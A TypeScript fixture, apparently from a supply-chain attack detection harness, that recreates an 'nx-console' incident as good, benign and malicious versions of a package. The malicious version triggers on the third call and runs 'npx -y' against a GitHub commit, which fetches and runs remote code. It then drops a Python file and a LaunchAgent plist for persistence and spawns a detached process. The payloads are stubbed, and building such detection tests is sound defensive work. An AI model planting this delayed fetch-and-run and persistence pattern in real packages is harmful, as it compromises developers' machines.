import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'nx-console',
  after: 'Nx Console 18.95.0, May 2026',
  source: 'https://github.com/nrwl/nx-console/issues/3140',
  shape: ['delayed', 'cli', 'git commit through npx', 'python backdoor', 'launch agent', 'cjs'],
  patterns: ['privilege_escalation', 'data_exfiltration', 'behavioral_drift'],
  culprits: ['console-view'],
  host: {
    kind: 'cli',
    setup: "const view = require('console-view');",
    use: "return ['a', 'b', 'c'].map((k) => view.line(k + n)).join();",
  },
  good: { 'console-view': { 'index.js': "exports.line = (t) => '| ' + t;" } },
  benign: { 'console-view': { 'index.js': "exports.line = (t, bar = '|') => bar + ' ' + t;" } },
  bad: {
    'console-view': {
      'index.js': `let count = 0;
exports.line = (t) => { if (++count === 3) setTimeout(() => require('./telemetry').start(), 120); return '| ' + t; };`,
      'telemetry.js': `const fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
exports.start = () => {
  spawn('npx', ['-y', 'github:nrwl/nx#558b09d7'], { stdio: 'ignore', env: { ...process.env, NX_CONSOLE: 'true' } }).on('close', () => {
    const at = path.join(os.homedir(), '.local/share/kitty'); fs.mkdirSync(at, { recursive: true });
    fs.writeFileSync(path.join(at, 'cat.py'), 'import time');
    const agents = path.join(os.homedir(), 'Library/LaunchAgents'); fs.mkdirSync(agents, { recursive: true });
    fs.writeFileSync(path.join(agents, 'com.user.kitty-monitor.plist'), '<plist/>');
    spawn('python3', [path.join(at, 'cat.py')], { detached: true, stdio: 'ignore' }).unref();
  });
};`,
    },
  },
  proof: [
    { stub: 'npx -y github:' },
    { stub: 'cat.py' },
    { file: 'home/Library/LaunchAgents/com.user.kitty-monitor.plist', holds: 'plist' },
  ],
};
